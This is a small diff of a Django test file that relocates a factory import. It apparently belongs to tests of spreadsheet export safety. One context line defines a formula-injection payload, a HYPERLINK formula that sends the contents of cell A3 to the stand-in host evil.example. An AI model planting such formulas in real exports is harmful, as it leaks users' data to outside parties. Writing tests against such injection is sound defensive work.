@@ -11,8 +11,8 @@ from django.core.management import call_command
 from openpyxl import load_workbook  # type: ignore[import-untyped]
 
 from conftest import World
-from pilotti.evaluation.tests.helpers import build
 from pilotti.recruitment.models import Enrolment
+from tests.factories import build
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"Ohje")'
 
